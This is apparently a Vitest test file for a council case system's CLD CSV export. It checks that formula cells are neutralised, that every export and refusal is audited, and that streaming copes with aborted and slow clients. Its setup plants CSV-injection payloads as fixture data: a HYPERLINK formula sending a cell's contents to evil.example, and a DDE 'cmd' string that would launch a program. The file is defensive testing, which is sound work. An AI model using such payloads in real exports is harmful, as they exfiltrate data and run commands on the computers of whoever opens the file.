import { EventEmitter } from 'node:events';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCouncilWithStaff } from '../support/fixtures.ts';
import { addCldEvents, PERIOD } from './support/cld-events-fixture.ts';
import { type ExportServer, startExportServer } from './support/export-server.ts';

const FORMULA_ID = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
const QUERY = `from=${PERIOD.from}&to=${PERIOD.to}&release=R2`;

let server: ExportServer;
let councilId: string;

beforeAll(async () => {
  server = await startExportServer({ batchSize: 2 });
  const setup = await createCouncilWithStaff(server.db);
  councilId = setup.councilId;
  const events = await addCldEvents(server.db, {
    councilId,
    staffId: setup.staffIds.socialWorker,
  });
  // an LA person id and a GP practice name as an attacker would type them into the case system
  await server.db.person.update({
    where: { id: events.personId },
    data: { laPersonId: FORMULA_ID, gpPracticeName: '@SUM(1+1)*cmd|"/C calc"!A0' },
  });
});
afterAll(() => server?.close());

const exportCsv = (query: string, token: string | null) =>
  fetch(`${server.url}/exports/cld.csv?${query}`, {
    headers: token ? { authorization: `Bearer ${token}` } : {},
  });

const exportAudit = (subject: string) =>
  server.db.auditLogEntry.findMany({
    where: { actorSubject: subject, operation: { startsWith: 'GET /exports/cld.csv' } },
    orderBy: { id: 'asc' },
  });

describe('the CLD CSV is safe to open in a spreadsheet', () => {
  it('neutralises formula cells (a leading quote, quoted) and leaves dates and numbers as they are', async () => {
    const token = await server.tokenFor({ councilId, roles: ['TEAM_MANAGER'] });
    const text = await (await exportCsv(QUERY, token)).text();
    const rows = text.split('\r\n').filter(Boolean).slice(1);
    expect(rows).toHaveLength(5);
    const quotedId = `"'${FORMULA_ID.replaceAll('"', '""')}"`;
    for (const row of rows) {
      expect(row).toContain(`,${quotedId},`);
      expect(row).toContain(`"'@SUM(1+1)*cmd|""/C calc""!A0"`);
      expect(row).not.toMatch(/(^|,)[=+\-@]/);
    }
    // dates and money untouched
    expect(text).toContain(`,${PERIOD.from},${PERIOD.to},`);
    expect(text).toContain(',21.50,');
    expect(text).toContain(',10.50');
  });
});

describe('every export is audited', () => {
  it('writes one READ row with the period, the rows and the people sent, stored before the download ends', async () => {
    const subject = 'staff:export-auditor';
    const token = await server.tokenFor({ councilId, roles: ['AUDITOR'], subject });
    expect((await (await exportCsv(QUERY, token)).text()).length).toBeGreaterThan(0);
    expect(await exportAudit(subject)).toMatchObject([
      {
        kind: 'READ',
        councilId,
        operation: `GET /exports/cld.csv from=${PERIOD.from} to=${PERIOD.to} release=R2`,
        entity: 'CldExport',
        outcome: 'OK rows=5 people=1',
      },
    ]);
  });

  it('records how far an export got when the client goes away mid-stream', async () => {
    const subject = 'staff:export-aborter';
    const token = await server.tokenFor({ councilId, roles: ['COUNCIL_ADMIN'], subject });
    const response = new GoneAfter(2);
    const route = server.exports.get('/exports/cld.csv');
    if (!route) throw new Error('no CLD export route');
    await route(
      { method: 'GET', headers: { authorization: `Bearer ${token}` } } as IncomingMessage,
      response as unknown as ServerResponse,
      new URL(`http://api.test/exports/cld.csv?${QUERY}`),
    );
    expect(response.rowsWritten).toBe(2);
    expect(await exportAudit(subject)).toMatchObject([
      { kind: 'READ', outcome: 'ABORTED rows=2 people=1' },
    ]);
  });

  it('stores the request id the response carries, also when the caller sent none', async () => {
    const subject = 'staff:export-request-id';
    const token = await server.tokenFor({ councilId, roles: ['TEAM_MANAGER'], subject });
    const response = await exportCsv(QUERY, token);
    await response.text();
    const requestId = response.headers.get('x-request-id');
    expect(requestId).toMatch(/^[0-9a-f-]{36}$/);
    expect((await exportAudit(subject)).map((row) => row.requestId)).toEqual([requestId]);
  });

  it('waits for a slow client without piling up listeners on the response', async () => {
    const token = await server.tokenFor({ councilId, roles: ['TEAM_MANAGER'] });
    const response = new SlowClient();
    const route = server.exports.get('/exports/cld.csv');
    if (!route) throw new Error('no CLD export route');
    await route(
      { method: 'GET', headers: { authorization: `Bearer ${token}` } } as IncomingMessage,
      response as unknown as ServerResponse,
      new URL(`http://api.test/exports/cld.csv?${QUERY}`),
    );
    // the header and every row, each after a full buffer drained
    expect(response.linesWritten).toBe(6);
    expect(response.ended).toBe(true);
    expect(response.listenerCount('drain')).toBe(0);
    expect(response.listenerCount('close')).toBe(0);
  });

  it('audits every refusal: no token, no staff record, a role without reports, bad parameters', async () => {
    const before = await server.db.auditLogEntry.count({ where: { kind: 'DENIAL' } });
    const anonymous = await fetch(`${server.url}/exports/cld.csv?${QUERY}`, {
      headers: { 'x-request-id': 'export-refusal-1' },
    });
    expect(anonymous.status).toBe(401);
    const nobody = await server.tokenFor({
      councilId,
      roles: ['TEAM_MANAGER'],
      subject: 'staff:export-nobody',
      staffRecord: false,
    });
    expect((await exportCsv(QUERY, nobody)).status).toBe(403);
    const worker = await server.tokenFor({
      councilId,
      roles: ['QUALIFIED_SOCIAL_WORKER'],
      subject: 'staff:export-worker',
    });
    expect((await exportCsv(QUERY, worker)).status).toBe(403);
    const manager = await server.tokenFor({
      councilId,
      roles: ['TEAM_MANAGER'],
      subject: 'staff:export-manager',
    });
    expect((await exportCsv('from=2025-04-01&to=2025-03-31', manager)).status).toBe(400);
    const denials = await server.db.auditLogEntry.findMany({
      where: { kind: 'DENIAL', operation: 'GET /exports/cld.csv' },
      orderBy: { id: 'asc' },
    });
    expect(denials.slice(-4).map((row) => [row.actorSubject, row.outcome])).toEqual([
      ['anonymous', 'UNAUTHENTICATED'],
      ['staff:export-nobody', 'NO_STAFF_RECORD'],
      ['staff:export-worker', 'FORBIDDEN'],
      ['staff:export-manager', 'BAD_REQUEST'],
    ]);
    expect(denials.at(-4)?.requestId).toBe('export-refusal-1');
    expect(await server.db.auditLogEntry.count({ where: { kind: 'DENIAL' } })).toBe(before + 4);
    expect(await exportAudit('staff:export-manager')).toHaveLength(1);
  });
});

/**
 * A response whose client goes away once `rows` data rows (after the header) were handed to it:
 * the write of the last one reports a full buffer and the connection then closes.
 */
class GoneAfter extends EventEmitter {
  destroyed = false;
  rowsWritten = 0;
  #lines = 0;

  constructor(private readonly rows: number) {
    super();
  }

  writeHead() {
    return this;
  }

  write(): boolean {
    this.#lines += 1;
    if (this.#lines === 1) return true;
    this.rowsWritten += 1;
    if (this.rowsWritten < this.rows) return true;
    setImmediate(() => {
      this.destroyed = true;
      this.emit('close');
    });
    return false;
  }

  end() {}

  destroy() {
    this.destroyed = true;
  }
}

/** A response whose every write fills the buffer; the client takes it a moment later. */
class SlowClient extends EventEmitter {
  destroyed = false;
  ended = false;
  linesWritten = 0;

  writeHead() {
    return this;
  }

  write(): boolean {
    this.linesWritten += 1;
    setImmediate(() => this.emit('drain'));
    return false;
  }

  end() {
    this.ended = true;
  }

  destroy() {
    this.destroyed = true;
  }
}
